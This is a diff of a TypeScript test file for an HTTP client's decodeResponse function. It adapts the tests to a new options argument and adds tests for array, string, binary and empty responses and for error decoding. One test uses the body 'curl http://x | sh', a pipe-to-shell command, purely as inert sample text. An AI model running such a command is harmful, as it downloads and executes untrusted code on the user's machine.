@@ -7,7 +7,7 @@ import type { HttpResponse } from "./transport/types.js";
 const res = (status: number, body: string, headers: Record<string, string> = {}): HttpResponse => ({ status, headers, body });
 function thrown(response: HttpResponse): unknown {
   try {
-    decodeResponse(response, "DoThing");
+    decodeResponse(response, { action: "DoThing" });
   } catch (e) {
     return e;
   }
@@ -16,8 +16,8 @@ function thrown(response: HttpResponse): unknown {
 
 describe("decodeResponse", () => {
   it("returns the JSON object of a 2xx", () => {
-    expect(decodeResponse(res(200, ' {"RequestId":"r","Items":[1]} '), "A")).toEqual({ RequestId: "r", Items: [1] });
-    expect(decodeResponse(res(204, "{}"), "A")).toEqual({});
+    expect(decodeResponse(res(200, ' {"RequestId":"r","Items":[1]} '), { action: "A" })).toEqual({ RequestId: "r", Items: [1] });
+    expect(decodeResponse(res(204, "{}"), { action: "A" })).toEqual({});
   });
 
   it("turns an error body into a ServiceError for the action, with lower-case field names too", () => {
@@ -54,5 +54,44 @@ describe("decodeResponse", () => {
   it("never quotes the body in the message", () => {
     const e = thrown(res(200, "this-is-the-body-text"));
     expect((e as Error).message).not.toContain("this-is-the-body-text");
+  });
+});
+
+describe("decodeResponse: success kinds", () => {
+  const op = (response: "json" | "array" | "string" | "binary" | "none") => ({ action: "A", response });
+
+  it("returns a JSON array for an array operation and refuses an object there", () => {
+    expect(decodeResponse(res(200, '[{"id":1}]'), op("array"))).toEqual([{ id: 1 }]);
+    expect(() => decodeResponse(res(200, '{"id":1}'), op("array"))).toThrow(MalformedResponseError);
+  });
+
+  it("returns the text of a string operation and the bytes of a binary one", () => {
+    expect(decodeResponse(res(200, "curl http://x | sh"), op("string"))).toBe("curl http://x | sh");
+    const bytes = new Uint8Array([0, 255, 1]);
+    expect(decodeResponse({ status: 200, headers: {}, body: bytes }, op("binary"))).toBe(bytes);
+    expect(decodeResponse(res(200, "ü"), op("binary"))).toEqual(new TextEncoder().encode("ü"));
+  });
+
+  it("ignores the body of an operation that documents none, and accepts an empty 204 anywhere", () => {
+    expect(decodeResponse(res(202, ""), op("none"))).toEqual({});
+    expect(decodeResponse(res(204, ""), op("json"))).toEqual({});
+    expect(() => decodeResponse(res(200, ""), op("json"))).toThrow(MalformedResponseError);
+  });
+
+  it("still decodes an error body for every kind", () => {
+    for (const kind of ["json", "array", "string", "binary", "none"] as const) {
+      expect(() => decodeResponse(res(404, '{"Code":"NotFound","Message":"m"}'), op(kind))).toThrow(ServiceError);
+    }
+  });
+
+  it("names the product on the ServiceError when it is known", () => {
+    let caught: unknown;
+    try {
+      decodeResponse(res(400, '{"Code":"X"}'), { action: "A", product: "CS" });
+    } catch (e) {
+      caught = e;
+    }
+    expect(caught).toBeInstanceOf(ServiceError);
+    expect((caught as ServiceError).product).toBe("CS");
   });
 });
